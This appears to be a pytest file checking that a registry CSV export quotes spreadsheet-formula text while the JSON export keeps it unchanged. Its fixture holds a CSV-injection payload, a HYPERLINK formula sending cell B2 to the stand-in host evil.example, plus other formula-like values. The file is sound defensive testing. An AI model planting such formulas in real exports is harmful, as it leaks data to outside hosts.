"""`arena registry export --format csv`: text a spreadsheet would run as a formula is quoted."""

from __future__ import annotations

import csv
import io

from sqlmodel import Session
from typer.testing import CliRunner

from assistant.cli import app
from assistant.cli.common import use_services
from assistant.registry import declarations
from assistant.registry.models import Category, InterestCreate, ValueBand
from assistant.services import Services
from tests.registry.conftest import World

PLANTED = '=HYPERLINK("https://evil.example/?d="&B2,"Se vedlegg")'


def test_the_csv_export_quotes_formulas_and_the_json_export_keeps_the_text(
    services: Services, session: Session, world: World
) -> None:
    declarations.create_declaration(
        session=session,
        person_id=world.partner,
        interests=[
            InterestCreate(
                category=Category.employment,
                organisation_id=world.medtek,
                position="@SUM(1+1)",
                topics=["-sensors"],
                description=PLANTED,
                value_band=ValueBand.over_1m,
            )
        ],
        actor="test",
    )
    session.commit()
    use_services(services)
    try:
        runner = CliRunner()
        exported = runner.invoke(app, ["registry", "export"])
        as_json = runner.invoke(app, ["registry", "export", "--format", "json"])
    finally:
        use_services(None)
    assert exported.exit_code == 0, exported.output
    (row,) = csv.DictReader(io.StringIO(exported.output))
    assert row["description"] == "'" + PLANTED
    assert row["position"] == "'@SUM(1+1)"
    assert row["topics"] == "'-sensors"
    assert row["person"] == "Kari Partner"
    assert as_json.exit_code == 0, as_json.output
    assert PLANTED in as_json.output.replace('\\"', '"')  # JSON is data already: unchanged
